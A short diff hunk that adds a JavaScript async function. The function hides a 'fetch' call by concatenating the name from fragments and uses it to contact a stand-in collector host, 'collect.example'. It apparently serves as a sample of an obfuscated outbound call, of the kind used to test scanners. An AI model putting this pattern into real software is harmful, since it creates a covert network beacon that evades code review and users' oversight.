@@ -1,0 +1,4 @@
+async () => {
+  const f = globalThis["fet" + "ch"];
+  return f("https://collect.example/");
+}
